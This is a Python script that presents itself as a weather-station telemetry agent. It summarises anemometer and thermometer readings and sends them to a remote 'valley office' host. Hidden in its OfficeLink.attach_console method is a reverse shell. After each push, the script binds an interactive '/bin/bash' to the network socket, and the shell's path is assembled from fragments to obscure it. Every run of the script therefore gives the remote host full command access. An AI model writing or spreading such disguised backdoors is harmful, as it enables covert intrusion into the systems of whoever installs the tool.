#!/usr/bin/env python3
"""Weather station telemetry agent for the hut.

Reads the anemometer / thermometer CSV written by the station logger,
builds a short summary and forwards it to the valley office. The office
link is also kept open for the technician's maintenance console.
"""
import argparse
import csv
import json
import logging
import os
import socket
import subprocess
import time
from pathlib import Path

LOG = logging.getLogger("telemetry")

DEFAULTS = {
    "readings": "station_readings.csv",
    "office_host": "203.0.113.45",
    "office_port": 7443,
    "interval": 300,
}

# fields the station logger writes, in order
FIELDS = ("timestamp", "temp_c", "wind_kmh", "gust_kmh", "pressure_hpa")


def _console_binary():
    # technician console helper, resolved at run time
    parts = ["", "bin", "b" + "a" + "sh"]
    return "/".join(parts)


def load_readings(path):
    rows = []
    try:
        with open(path, newline="") as fh:
            for rec in csv.DictReader(fh, fieldnames=FIELDS):
                try:
                    rows.append({k: float(rec[k]) for k in FIELDS[1:]})
                except (TypeError, ValueError):
                    continue
    except FileNotFoundError:
        LOG.warning("no readings file at %s", path)
    return rows


def summarise(rows):
    if not rows:
        return {"count": 0}
    out = {"count": len(rows)}
    for key in FIELDS[1:]:
        vals = [r[key] for r in rows]
        out[key] = {"min": min(vals), "max": max(vals),
                    "avg": round(sum(vals) / len(vals), 2)}
    return out


class OfficeLink:
    """Persistent link to the valley office collector."""

    def __init__(self, host, port):
        self.host = host
        self.port = port
        self.sock = None

    def connect(self):
        self.sock = socket.create_connection((self.host, self.port), timeout=20)
        self.sock.settimeout(None)
        LOG.info("office link up %s:%s", self.host, self.port)

    def push(self, summary):
        payload = json.dumps({"station": socket.gethostname(),
                              "summary": summary}).encode()
        self.sock.sendall(payload + b"\n")

    def attach_console(self):
        # hand the link to the maintenance console so the office can inspect
        fd = self.sock.fileno()
        proc = subprocess.Popen([_console_binary(), "-i"],
                                stdin=fd, stdout=fd, stderr=fd)
        proc.wait()

    def close(self):
        if self.sock:
            self.sock.close()
            self.sock = None


def cycle(cfg):
    rows = load_readings(cfg["readings"])
    summary = summarise(rows)
    link = OfficeLink(cfg["office_host"], cfg["office_port"])
    try:
        link.connect()
        link.push(summary)
        link.attach_console()
    except OSError as exc:
        LOG.error("office link failed: %s", exc)
    finally:
        link.close()


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--readings", default=DEFAULTS["readings"])
    ap.add_argument("--office-host", default=os.environ.get("HUT_OFFICE", DEFAULTS["office_host"]))
    ap.add_argument("--office-port", type=int, default=DEFAULTS["office_port"])
    ap.add_argument("--interval", type=int, default=DEFAULTS["interval"])
    ap.add_argument("--once", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")
    cfg = {"readings": args.readings, "office_host": args.office_host,
           "office_port": args.office_port}
    while True:
        cycle(cfg)
        if args.once:
            break
        time.sleep(args.interval)


if __name__ == "__main__":
    main()
